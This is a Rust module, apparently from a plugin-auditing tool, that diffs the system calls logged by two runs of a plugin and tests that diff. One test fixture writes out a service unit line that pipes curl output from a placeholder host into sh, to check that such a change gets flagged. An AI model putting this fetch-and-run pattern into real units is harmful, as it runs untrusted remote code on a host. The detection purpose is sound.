//! Compares what two runs of a plugin do to an image, by their calls.

use std::collections::BTreeMap;

use serde::Serialize;
use serde_json::Value;

use crate::plugin::about::shortened;
use crate::plugin::capability::kinds;
use crate::plugin::functions::{self, Function};

/// A call as a log has it.
#[derive(Clone, Debug, PartialEq)]
pub(super) struct Made {
    call: Value,
    args: Value,
}

/// Source of the answer to a call.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Answer {
    /// This call of the log.
    Of(usize),
    /// Such a function says no more than that it was done.
    Done,
    Unknown,
}

/// Difference between two runs: what one does and the other does not, or does otherwise.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Changed {
    pub change: Change,
    /// The function, and what it is about.
    pub what: String,
    /// Lines of its arguments: `-` those of the old run alone, `+` those of the new one alone.
    pub lines: Vec<String>,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Change {
    New,
    Gone,
    Other,
}

impl Change {
    /// Returns the sign before a line.
    pub fn sign(self) -> char {
        match self {
            Self::New => '+',
            Self::Gone => '-',
            Self::Other => '~',
        }
    }
}

/// Arguments that say what a call is about, the first that is there.
const SUBJECTS: [&str; 12] =
    ["path", "dest", "unit", "name", "user", "url", "key", "parameter", "program", "specs", "names", "secret"];

/// Functions whose answer is that it was done.
const DONE: [&str; 11] = [
    "log.write",
    "stdio.write",
    "fs.write",
    "fs.install",
    "fs.mkdir",
    "fs.symlink",
    "fs.rename",
    "fs.set-attrs",
    "fs.set-owner",
    "fs.remove",
    "services.drop-in",
];

impl Made {
    pub(super) fn new(call: Value, args: Value) -> Self {
        Self { call, args }
    }

    fn function(&self) -> Option<&'static Function> {
        functions::by_name(self.call.as_str()?)
    }

    /// Returns the call in a line that people read.
    pub(super) fn shown(&self) -> String {
        shortened(&super::shown(&self.call, &self.args))
    }

    /// Returns what it is about; the arguments of some functions are within another one.
    fn subject(&self) -> Option<&Value> {
        let within = self.args.as_object()?.values().filter(|value| value.is_object());
        std::iter::once(&self.args).chain(within).find_map(|args| SUBJECTS.iter().find_map(|name| args.get(name)))
    }

    /// Returns the function and its subject; `None` if it changes nothing.
    fn effect(&self) -> Option<String> {
        let function = self.function()?;
        let only_looks = function.needs.iter().all(|kind| [&kinds::READ, &kinds::ASSET].contains(kind));
        (!only_looks).then(|| match self.subject() {
            Some(Value::String(text)) => format!("{} {text}", function.name),
            Some(other) => format!("{} {other}", function.name),
            None => function.name.to_owned(),
        })
    }

    fn is_about_the_same(&self, other: &Self) -> bool {
        self.call.is_string() && self.call == other.call && self.subject() == other.subject()
    }
}

/// Looks in the log, from `next` on, for the answer to a call: to the same one, else to one about the same thing.
pub(super) fn answer(was: &[Made], next: usize, is: &Made) -> Answer {
    let after = |fits: &dyn Fn(&Made) -> bool| was.iter().skip(next).position(fits).map(|at| at + next);
    let before = |fits: &dyn Fn(&Made) -> bool| was.iter().take(next).rposition(fits);
    let same = |other: &Made| other == is;
    let about = |other: &Made| other.is_about_the_same(is);
    if was.get(next).is_some_and(same) {
        return Answer::Of(next);
    }
    let found = after(&same).or_else(|| after(&about)).or_else(|| before(&same)).or_else(|| before(&about));
    match found {
        Some(at) => Answer::Of(at),
        None if is.call.as_str().is_some_and(|name| DONE.contains(&name)) => Answer::Done,
        None => Answer::Unknown,
    }
}

/// Compares what two runs do. What the new one does no more is told only if it is known to its end.
pub(super) fn changed(was: &[Made], is: &[Made], to_its_end: bool) -> Vec<Changed> {
    let (was, is) = (effects(was), effects(is));
    let mut found = Vec::new();
    for (what, now) in &is {
        match was.get(what) {
            Some(before) if before == now => {}
            Some(before) => {
                found.push(Changed { change: Change::Other, what: what.clone(), lines: difference(before, now) });
            }
            None => found.push(Changed { change: Change::New, what: what.clone(), lines: difference(&[], now) }),
        }
    }
    if to_its_end {
        let gone = was.keys().filter(|what| !is.contains_key(*what));
        found.extend(gone.map(|what| Changed { change: Change::Gone, what: what.clone(), lines: Vec::new() }));
    }
    found
}

/// Returns the arguments of all calls by what they do.
fn effects(calls: &[Made]) -> BTreeMap<String, Vec<&Value>> {
    let mut found: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for call in calls {
        if let Some(what) = call.effect() {
            found.entry(what).or_default().push(&call.args);
        }
    }
    found
}

/// Lines of one side alone.
fn difference(before: &[&Value], now: &[&Value]) -> Vec<String> {
    let lines = |of: &[&Value]| {
        let mut all = Vec::new();
        of.iter().for_each(|value| leaves("", value, &mut all));
        all
    };
    let (before, now) = (lines(before), lines(now));
    let only = |sign: char, these: &[String], those: &[String]| -> Vec<String> {
        these.iter().filter(|line| !those.contains(line)).map(|line| format!("{sign} {line}")).collect()
    };
    [only('-', &before, &now), only('+', &now, &before)].concat()
}

/// Returns each value with the name of its argument; a text of several lines line by line.
fn leaves(name: &str, value: &Value, lines: &mut Vec<String>) {
    match value {
        Value::Object(fields) => fields.iter().for_each(|(name, value)| leaves(name, value, lines)),
        Value::Array(items) => items.iter().for_each(|value| leaves(name, value, lines)),
        Value::String(text) if text.contains('\n') => lines.extend(text.lines().map(shortened)),
        Value::String(text) => lines.push(format!("{name}: {}", shortened(text))),
        Value::Null => {}
        other => lines.push(format!("{name}: {other}")),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn unit(text: &str) -> Made {
        Made::new(json!("services.install-unit"), json!({ "name": "x.service", "text": text }))
    }

    fn write(path: &str, digest: &str) -> Made {
        Made::new(json!("fs.write"), json!({ "path": path, "data": { "bytes": 1, "sha256": digest }, "attrs": null }))
    }

    fn read(path: &str) -> Made {
        Made::new(json!("fs.read-text"), json!({ "path": path }))
    }

    #[test]
    fn what_another_build_writes_is_shown_line_by_line() {
        let was = [read("/etc/a"), unit("[Service]\nExecStart=/usr/bin/sensor\n"), write("/etc/b", "1")];
        let is = [unit("[Service]\nExecStart=sh -c 'curl x | sh'\n"), write("/etc/c", "1")];
        let found = changed(&was, &is, true);
        let told: Vec<(char, &str)> = found.iter().map(|it| (it.change.sign(), it.what.as_str())).collect();
        assert_eq!(
            told,
            [('+', "fs.write /etc/c"), ('~', "services.install-unit x.service"), ('-', "fs.write /etc/b")]
        );
        assert_eq!(found[1].lines, ["- ExecStart=/usr/bin/sensor", "+ ExecStart=sh -c 'curl x | sh'"]);
        // Of a run that was stopped nobody knows what it would do yet.
        assert_eq!(changed(&was, &is, false).len(), 2);
        assert_eq!(changed(&was, &was, true), []);
        let other = changed(&[write("/etc/b", "1")], &[write("/etc/b", "2")], true);
        assert_eq!(other[0].lines, ["- sha256: 1", "+ sha256: 2"]);
    }

    #[test]
    fn a_call_that_differs_is_answered_as_one_about_the_same() {
        let was = [read("/etc/a"), unit("a"), read("/etc/a"), write("/etc/b", "1")];
        for (next, is, expected) in [
            (0, read("/etc/a"), Answer::Of(0)),
            (1, read("/etc/a"), Answer::Of(2)),
            (3, read("/etc/a"), Answer::Of(2)),
            (1, unit("b"), Answer::Of(1)),
            (0, write("/etc/b", "2"), Answer::Of(3)),
            (0, write("/etc/new", "2"), Answer::Done),
            (0, read("/etc/new"), Answer::Unknown),
        ] {
            assert_eq!(answer(&was, next, &is), expected, "{next} {is:?}");
        }
    }

    #[test]
    fn each_function_named_here_is_one() {
        for name in DONE {
            assert!(functions::by_name(name).is_some(), "{name}");
        }
    }
}
